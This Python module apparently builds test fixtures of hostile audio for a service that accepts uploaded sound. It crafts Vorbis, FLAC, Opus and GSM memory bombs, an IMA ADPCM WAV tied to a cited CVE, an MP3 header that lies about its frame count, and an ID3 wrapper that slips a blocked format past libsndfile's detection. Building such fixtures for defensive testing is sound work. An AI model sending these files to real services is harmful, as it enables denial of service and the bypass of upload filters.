"""Small sound files that a stranger may send, each made to cost much or to reach a reader that it should not."""

import io
import struct

import numpy as np
import soundfile

LARGEST_RATE = 2**31 - 1  # Hz, as far as a header can say


def written(samples: np.ndarray, rate: int, format: str, subtype: str | None = None) -> bytes:
    """What libsndfile makes of samples [n] or [n, channels]."""
    buffer = io.BytesIO()
    soundfile.write(buffer, samples, rate, format=format, subtype=subtype)
    return buffer.getvalue()


def au(encoding: int, rate: int = LARGEST_RATE, size: int = 1000) -> bytes:
    """23 to 27 are G.721 and G.723, whose reader in libsndfile goes on giving frames when the data has ended."""
    return b".snd" + struct.pack(">5I", 24, 0xFFFFFFFF, encoding, rate, 1) + bytes(size)


def wav(
    tag: int, bits: int, channels: int = 1, rate: int = 8000, data: bytes = bytes(1000), more: bytes = b""
) -> bytes:
    """more: the rest of the fmt chunk, which codecs other than PCM have."""
    frame = max(1, channels * bits // 8)
    fmt = struct.pack("<HHIIHH", tag, channels, rate, min(rate * frame, LARGEST_RATE), frame, bits) + more
    chunks = b"fmt " + struct.pack("<I", len(fmt)) + fmt + b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WAVE" + chunks


def commented(comment: bytes) -> bytes:
    """A wav's beginning with that comment."""
    return b"RIFF    WAVELIST    INFOICMT" + struct.pack("<I", len(comment)) + comment


def gsm_wav() -> bytes:
    """Its reader takes any rate, and a clip of a minute is then of 10^11 samples."""
    return wav(0x31, 0, rate=LARGEST_RATE, data=bytes(65 * 16), more=struct.pack("<HH", 2, 320))


def adpcm_wav(tag: int) -> bytes:
    """2: Microsoft's; 17: IMA's, whose block sizes overflow (CVE-2026-37555)."""
    more = struct.pack("<HH", 2, 50_000) if tag == 17 else struct.pack("<HHH", 32, 500, 7) + bytes(28)
    return wav(tag, 4, more=more, data=bytes(4096))


def wide_flac(seconds: int = 20) -> bytes:
    """8 channels at the highest rate that flac knows: 20 s of them are 0.1 MB here and 400 MB in float32."""
    return written(np.zeros((seconds * 655_350, 8), np.int16), 655_350, "FLAC")


class Bits:
    """A Vorbis packet: the lowest bit first."""

    def __init__(self) -> None:
        self.value, self.length = 0, 0

    def add(self, value: int, width: int) -> None:
        self.value |= value << self.length
        self.length += width

    def bytes(self) -> bytes:
        return self.value.to_bytes((self.length + 7) // 8, "little")


def ogg(*packets: bytes, stream: int = 1) -> bytes:
    """A page for each packet; none longer than 65,024 bytes."""
    pages, last = b"", len(packets) - 1
    for number, packet in enumerate(packets):
        lacing = bytes([255] * (len(packet) // 255) + [len(packet) % 255])
        flags = (2 if number == 0 else 0) | (4 if number == last else 0)
        head = b"OggS" + struct.pack("<BBqIII", 0, flags, 0, stream, number, 0) + bytes([len(lacing)]) + lacing
        page = bytearray(head + packet)
        page[22:26] = struct.pack("<I", checksum(page))
        pages += bytes(page)
    return pages


def checksum(page: bytes) -> int:
    """Ogg's CRC: polynomial 0x04C11DB7, nothing reflected or inverted."""
    crc = 0
    for byte in page:
        crc ^= byte << 24
        for _ in range(8):
            crc = (crc << 1 ^ (0x04C11DB7 if crc & 1 << 31 else 0)) & 0xFFFFFFFF
    return crc


def vorbis_bomb(books: int = 256) -> bytes:
    """Codebooks of 8 million entries, 12 bytes each here and 8 MB each in memory as soon as the file is opened."""
    first = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 1, 44100, 0, 128000, 0, 0xB8, 1)
    setup = Bits()
    setup.add(books - 1, 8)
    for _ in range(books):
        for value, width in ((0x564342, 24), (1, 16), (2**23 - 1, 24), (1, 1), (22, 5), (2**23 - 1, 23), (0, 4)):
            setup.add(value, width)
    return ogg(first, b"\x03vorbis" + bytes(8) + b"\x01", b"\x05vorbis" + setup.bytes(), bytes(9))


def wide_opus() -> bytes:
    """255 channels, each with a decoder of its own."""
    head = b"OpusHead" + struct.pack("<BBHIhB", 1, 255, 0, 48000, 0, 255) + bytes([255, 0]) + bytes(range(255))
    return ogg(head, b"OpusTags" + bytes(8), *[bytes([0xFC]) * 1000] * 3)


def lying_mp3() -> bytes:
    """A header that speaks of four thousand million frames before a second of sound."""
    data = bytearray(written(np.sin(np.arange(24000) / 9), 24000, "MP3"))
    at = max(data.find(b"Xing"), data.find(b"Info"))
    data[at + 8 : at + 12] = b"\xff" * 4
    return bytes(data)


def hidden(sound: bytes) -> bytes:
    """libsndfile skips ID3 tags and looks again what the rest is, so a reader that is shut out comes in behind one."""
    return b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(10) + sound
